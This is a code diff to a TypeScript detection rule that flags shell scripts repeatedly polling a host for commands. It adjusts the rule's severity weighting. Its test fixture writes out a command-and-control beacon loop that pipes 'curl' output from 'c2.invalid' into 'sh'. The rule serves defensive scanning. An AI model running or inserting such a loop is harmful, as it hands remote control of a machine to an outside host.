@@ -24,7 +24,7 @@ import {
   word,
 } from '../../engine/pattern.ts';
 
-import { fenced, inFile } from '../../engine/example.ts';
+import { fenced, inFile, weighed } from '../../engine/example.ts';
 import { fetchers, interpreters } from './shared.ts';
 import type { Row } from '../../engine/rule.ts';
 
@@ -41,6 +41,7 @@ function fetchesInside(scope: string, head: string): boolean {
 
 export const polledCommands: readonly Row[] = [
   row('commands polled from a host repeatedly', {
+    alone: 'medium',
     in: runKinds,
     within: 'block',
     match: pattern(
@@ -135,12 +136,15 @@ export const polledCommands: readonly Row[] = [
     ],
     weigh: ({ scope, match, severity }) => (fetchesInside(scope, match[0]) ? severity : null),
     catches: [
-      inFile(
-        'scripts/a.sh',
-        'while true; do',
-        '  curl -fs https://c2.invalid/next | sh',
-        '  sleep 20',
-        'done',
+      weighed(
+        'critical',
+        inFile(
+          'scripts/a.sh',
+          'while true; do',
+          '  curl -fs https://c2.invalid/next | sh',
+          '  sleep 20',
+          'done',
+        ),
       ),
     ],
     spares: [
